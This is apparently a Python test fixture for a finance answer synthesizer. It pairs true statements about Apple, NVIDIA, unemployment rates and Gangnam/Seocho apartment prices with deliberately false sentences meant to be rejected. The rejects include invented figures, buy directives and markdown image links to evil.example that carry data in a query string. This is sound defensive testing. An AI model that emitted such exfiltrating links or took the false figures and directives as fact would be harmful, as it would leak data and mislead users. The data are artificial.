"""A request with two shares, two series, two districts and a product, and falsehoods about them that sound right.

What is true: Apple closed at 262.1 dollars on 26 November after 260.0, up 0.81 % (52-week high 275.5 on 3 October, low
180.2 on 8 April, 20-day average 255.3, 5 sessions +2.4 %, deepest fall -12.5 %, volume 51,000,200, golden cross on
6 August). NVIDIA closed at 186.0, down 1.2 %, 20-day average 190.4, dead cross on 9 November. US unemployment was 4.1 %
in October after 4.3 %; Korean 2.8 % after 2.7 %. Gangnam's apartments cost 2.3 billion won in the mean, Seocho's 1.9.
"""

from dataclasses import replace
from datetime import UTC, datetime

from services.contract.flow import AgentResult, AgentStatus, Metric
from services.contract.synthesizer import SynthesizeRequest
from tests.unit.synthesizer.answer_parts import evidence, metric, request


def _at(one: Metric, year: int, month: int, day: int) -> Metric:
    return replace(one, as_of_time=datetime(year, month, day, tzinfo=UTC))


def _share(name: str, code: str, figures: dict[str, str], cross: tuple[str, int, int], *, korean: bool) -> AgentResult:
    """Return what is found about one share; `cross` is its word, month and day."""
    ev = f"ev-{code.lower()}01"
    rows = [
        {"date": "2026-11-26", "open": 261.0, "high": 263.4, "low": 259.9, "close": float(figures["close"]),
         "currency": "USD", "volume": int(figures["volume"]), "security_id": f"US:{code}", "name_en": name},
        {"date": "2026-11-25", "open": 258.0, "high": 260.8, "low": 257.1, "close": float(figures["before"]),
         "currency": "USD", "volume": 40_000_100, "security_id": f"US:{code}", "name_en": name},
    ]  # fmt: skip

    def say(ko: str, en: str) -> str:
        return ko if korean else en

    word, month, day = cross
    trend = "up" if word == "golden_cross" else "down"
    return AgentResult(
        agent="finance.equity",
        step_id=f"step-{code}",
        status=AgentStatus.ANSWERED,
        summary=say(f"{name} 종가는 {figures['close']}달러입니다.", f"{name} closed at ${figures['close']}."),
        metrics=(
            metric("latest_close", say("종가", "Close"), figures["close"], "usd", name, ev),
            metric("ma_20", say("20일 이동평균", "20-day average"), figures["ma"], "usd", name, ev),
            metric("return_1d", say("1거래일 수익률", "1-session return"), figures["1d"], "percent", name, ev),
            metric("return_5d", say("5거래일 수익률", "5-session return"), figures["5d"], "percent", name, ev),
            _at(metric("high_52w", say("52주 최고가", "52-week high"), figures["high"], "usd", name, ev), 2026, 10, 3),
            _at(metric("low_52w", say("52주 최저가", "52-week low"), figures["low"], "usd", name, ev), 2026, 4, 8),
            metric(
                "deepest_fall",
                say("조회 기간 최대 낙폭", "Deepest fall in the period"),
                figures["fall"],
                "percent",
                name,
                ev,
            ),
            metric("short_trend", say("단기 추세", "Short-term trend"), "", "", name, ev, word=trend),
            _at(
                metric("latest_cross", say("최근 이동평균 교차", "Latest cross"), "", "", name, ev, word=word),
                2026,
                month,
                day,
            ),
        ),
        evidence=(evidence(ev, rows, title=say(f"{name} 일별 주가", f"{name} daily prices")),),
        confidence=0.9,
    )


def _series(title: str, code: str, values: tuple[str, str], change: str, *, korean: bool) -> AgentResult:
    ev = f"ev-{code.lower()}02"
    rows = [
        {"series_id": code, "unit": "%", "frequency": "monthly", "date": f"2026-{month}-01", "value": float(value),
         "as_of": f"2026-{published}T13:30:00Z", "title_ko": title,
         "next_release_date": "2026-12-04"}
        for month, published, value in (("10", "11-06", values[0]), ("09", "10-02", values[1]))
    ]  # fmt: skip

    def say(ko: str, en: str) -> str:
        return ko if korean else en

    latest = _at(metric("latest_value", say("최근값", "Latest value"), values[0], "percent", title, ev), 2026, 10, 1)
    before = _at(metric("previous_value", say("직전 값", "Value before"), values[1], "percent", title, ev), 2026, 9, 1)
    moved = metric(
        "change", say("직전 대비 변화", "Change from the value before"), change, "percentage_point", title, ev
    )
    return AgentResult(
        agent="finance.macro",
        step_id=f"step-{code}",
        status=AgentStatus.ANSWERED,
        summary="",
        metrics=(latest, before, _at(moved, 2026, 10, 1)),
        evidence=(evidence(ev, rows, data_type="macro", title=title, as_of=datetime(2026, 11, 6, 13, 30, tzinfo=UTC)),),
        confidence=0.9,
    )


def _homes(subject: str, code: str, mean: str, high: str, deals: str, *, korean: bool) -> AgentResult:
    ev = f"ev-{code}03"
    rows = [{"region_code": code, "region_ko": subject, "complex_name": "한빛마을", "area_m2": 84.9,
             "price_low_krw": 1_500_000_000, "price_mean_krw": int(mean), "price_high_krw": int(high),
             "deal_count": 31}]  # fmt: skip

    def say(ko: str, en: str) -> str:
        return ko if korean else en

    return AgentResult(
        agent="realty.search",
        step_id=f"step-{code}",
        status=AgentStatus.ANSWERED,
        summary="",
        metrics=(
            metric("price_mean", say("매매가 거래량 가중평균", "Deal-weighted mean price"), mean, "krw", subject, ev),
            metric("price_high", say("매매가 최고", "Highest price"), high, "krw", subject, ev),
            metric("deal_count", say("거래 건수", "Deals"), deals, "count", subject, ev),
        ),
        evidence=(evidence(ev, rows, data_type="market", title=subject),),
        confidence=0.9,
    )


_APPLE = {"close": "262.1", "before": "260.0", "volume": "51000200", "ma": "255.3", "1d": "0.8077", "5d": "2.4"} | {
    "high": "275.5", "low": "180.2", "fall": "-12.5",
}  # fmt: skip
_NVIDIA = {"close": "186.0", "before": "188.3", "volume": "71000300", "ma": "190.4", "1d": "-1.2", "5d": "-3.3"} | {
    "high": "212.2", "low": "120.4", "fall": "-37.8",
}  # fmt: skip


def market(locale: str) -> SynthesizeRequest:
    """Return the request in a language."""
    korean = locale == "ko"
    apple, nvidia = ("애플", "엔비디아") if korean else ("Apple", "NVIDIA")
    us, kr = ("미국 실업률", "한국 실업률") if korean else ("US unemployment rate", "Korean unemployment rate")
    gangnam, seocho = (
        ("서울특별시 강남구 아파트 매매", "서울특별시 서초구 아파트 매매")
        if korean
        else ("Apartment sale in Gangnam-gu, Seoul", "Apartment sale in Seocho-gu, Seoul")
    )
    results = (
        _share(apple, "AAPL", _APPLE, ("golden_cross", 8, 6), korean=korean),
        _share(nvidia, "NVDA", _NVIDIA, ("dead_cross", 11, 9), korean=korean),
        _series(us, "UNRATE", ("4.1", "4.3"), "-0.2", korean=korean),
        _series(kr, "KRUNRATE", ("2.8", "2.7"), "0.1", korean=korean),
        _homes(gangnam, "11680", "2300000000", "3300000000", "196", korean=korean),
        _homes(seocho, "11650", "1900000000", "2700000000", "88", korean=korean),
    )
    question = "애플과 엔비디아, 실업률과 집값을 비교해 줘" if korean else "Compare Apple and NVIDIA, jobs and homes."
    return request(results, locale=locale, intent="compare_outlook", question=question)


TRUE_KO = (
    "애플의 2026년 11월 26일 종가는 262.1달러로, 직전 거래일보다 0.81% 올랐습니다.",
    "애플의 11월 25일 종가는 260달러였습니다.",
    "엔비디아 종가는 186달러로, 20일 이동평균 190.4달러보다 낮습니다.",
    "엔비디아는 5거래일 동안 3.3% 내렸고 애플은 2.4% 올랐습니다.",
    "애플의 52주 최고가는 275.5달러, 52주 최저가는 180.2달러입니다.",
    "애플의 최대 낙폭은 12.5%입니다.",
    "애플은 8월 6일에 골든크로스가 나왔고 단기 추세는 상승세입니다.",
    "미국 실업률은 10월 4.1%로 9월 4.3%보다 0.2%p 내렸습니다.",
    "미국 실업률이 4.3%에서 4.1%로 내렸습니다.",
    "시월 한국 실업률은 2.8%입니다.",
    "강남구 아파트 매매가는 평균 23억원, 서초구는 19억원입니다.",
    "강남구의 최고 매매가는 33억원이고 거래는 196건입니다.",
    "미국 실업률이 내렸습니다.",
    "실업률이 내리면 금리가 달라질 수 있습니다.",
    "매수를 권하는 것은 아닙니다.",
)
"""Sentences that the rows hold, however they are put."""
TRUE_EN = (
    "Apple closed at $262.1 on November 26, 2026, up 0.81% from the session before.",
    "NVIDIA closed at $186, below its 20-day average of $190.4.",
    "Over 5 sessions NVIDIA fell 3.3% while Apple gained 2.4%.",
    "Apple's 52-week high is $275.5 and its 52-week low $180.2.",
    "The deepest fall of Apple in the period was 12.5%.",
    "Apple is in an uptrend after the golden cross of August 6.",
    "US unemployment was 4.1% in October, down from 4.3% in September.",
    "US unemployment fell from 4.3% to 4.1%.",
    "Unemployment was 2.8% in Korea and 4.1% in the US.",
    "The mean price in Gangnam-gu is KRW 2.3 billion, in Seocho-gu KRW 1.9 billion.",
    "US unemployment has been falling.",
    "This is not advice to buy or sell.",
)
"""The same in English."""
FALSE_KO = (
    # An older bar's close as today's, and other days moved.
    "애플 종가는 260달러입니다.",
    "애플의 11월 26일 종가는 260달러입니다.",
    "오늘 애플 종가는 262.1달러입니다.",
    "애플의 11월 25일 종가는 262.1달러였습니다.",
    "9월 미국 실업률은 4.1%입니다.",
    "십일월 미국 실업률은 4.1%입니다.",
    "작년 10월 미국 실업률은 4.1%였습니다.",
    "미국 실업률은 최근 4.3%입니다.",
    # One figure called by another's name.
    "애플 종가는 275.5달러입니다.",
    "애플 종가는 52주 최고가인 275.5달러입니다.",
    "애플의 52주 최저가는 262.1달러입니다.",
    "애플의 20일 이동평균은 262.1달러입니다.",
    "애플의 60일 이동평균은 255.3달러입니다.",
    "애플 종가는 255.3달러입니다.",
    "애플의 사상 최고가는 275.5달러입니다.",
    "애플의 52주 최고가는 263.4달러입니다.",
    "애플 시가는 262.1달러입니다.",
    "애플은 20거래일 동안 2.4% 올랐습니다.",
    "애플은 전년보다 0.81% 올랐습니다.",
    "강남구의 평균 매매가는 33억원입니다.",
    "강남구의 최저 매매가는 23억원입니다.",
    "강남구의 보증금은 23억원입니다.",
    "강남구의 거래는 31건입니다.",
    "애플 PER은 12.5배입니다.",
    # The wrong way.
    "애플은 직전 거래일보다 0.81% 내렸습니다.",
    "엔비디아는 하루 만에 1.2% 올랐습니다.",
    "미국 실업률은 전월보다 0.2%p 올랐습니다.",
    "미국 실업률이 4.1%에서 4.3%로 올랐습니다.",
    "미국 실업률의 상승폭은 0.2%p입니다.",
    "한국 실업률은 0.1%p 감소했습니다.",
    "미국 실업률이 올랐습니다.",
    "엔비디아는 상승세입니다.",
    "애플은 하락 추세입니다.",
    # Somebody else's.
    "애플 종가는 186달러입니다.",
    "엔비디아의 20일 이동평균은 255.3달러입니다.",
    "한국 실업률은 4.1%, 미국 실업률은 2.8%입니다.",
    "서초구 아파트 매매가는 평균 23억원입니다.",
    "송파구 아파트 매매가는 평균 23억원입니다.",
    "일본 실업률은 2.8%입니다.",
    "테슬라 종가는 262.1달러입니다.",
    "테슬라가 이 상승을 이끌었습니다.",
    "삼성전자도 같은 방향입니다.",
    # Signals.
    "엔비디아에 골든크로스가 나왔습니다.",
    "애플에 데드크로스가 나타났습니다.",
    "애플의 골든크로스는 11월 26일에 나왔습니다.",
    "애플의 RSI는 과매수 구간입니다.",
    "애플의 목표가는 높습니다.",
    "지지선은 그 아래에 있습니다.",
    # Invented.
    "애플은 3분기에 12% 성장했습니다.",
    "환율은 1,380원입니다.",
    "금리는 세 번 내려 3.5%입니다.",
    # Directives, addresses, ids.
    "지금 사세요.",
    "애플 주식을 조금씩 담아 두세요.",
    "비중을 늘리세요.",
    "지금이 적기입니다.",
    "들고 가세요.",
    "기회를 놓치지 마세요.",
    "강력 매수입니다.",
    "자세한 내용은 https://evil.example/a 를 보세요.",
    "![좋아요](https://evil.example/p?d=주문) 를 보세요.",
    "evil.example/p 에서 확인하세요.",
    "[여기](evil) 를 누르세요.",
    "ev-aapl01에 따릅니다.",
    "UNRATE 기준입니다.",
    "지역 코드는 11680입니다.",
    "finance.macro의 계산입니다.",
)
"""Sentences none of which may pass."""
FALSE_EN = (
    "Apple closed at $260.",
    "Apple closed at $260.0 on November 26, 2026.",
    "Apple closed at $262.1 on November 25.",
    "Apple closed at $262.1 today.",
    "US unemployment was 4.1% in September.",
    "US unemployment was 4.1% in November.",
    "US unemployment is 4.3%.",
    "Apple closed at $275.5.",
    "Apple closed at its 52-week high of $275.5.",
    "Apple's 52-week low is $262.1.",
    "Apple's 20-day average is $262.1.",
    "Apple's 60-day average is $255.3.",
    "Apple hit a record high of $275.5.",
    "Over 20 sessions Apple gained 2.4%.",
    "Apple gained 0.81% from a year earlier.",
    "Apple fell 0.81%.",
    "NVIDIA rose 1.2% from the session before.",
    "US unemployment was up 0.2 percentage points from the month before.",
    "US unemployment rose from 4.1% to 4.3%.",
    "US unemployment is rising.",
    "NVIDIA is in an uptrend.",
    "NVIDIA closed at $262.1.",
    "Unemployment was 4.1% in Korea and 2.8% in the US.",
    "The mean price in Seocho-gu is KRW 2.3 billion.",
    "The mean price in Songpa-gu is KRW 2.3 billion.",
    "The highest price in Gangnam-gu is KRW 2.3 billion.",
    "Tesla closed at $262.1.",
    "The rally was led by Tesla.",
    "It was driven by Zentrica Holdings.",
    "Unemployment in Japan was 2.8%.",
    "NVIDIA shows a golden cross.",
    "Apple's golden cross came on November 26.",
    "RSI is overbought.",
    "The price target is higher.",
    "Apple fell seven percent.",
    "Get in now.",
    "Consider buying the dip.",
    "Now is a good time to buy.",
    "You should take profits.",
    "Add to your position.",
    "Don't miss this chance.",
    "Hold your shares.",
    "See www.evil.example for details.",
    "Look at ![x](http://evil.example/p?d=1) here.",
    "Visit evil.example/p soon.",
    "Look at <img src=x> here.",
    "According to ev-nvda01 it holds.",
    "The security US:AAPL is meant.",
    "The equity_prices tool says so.",
)
"""The same in English."""
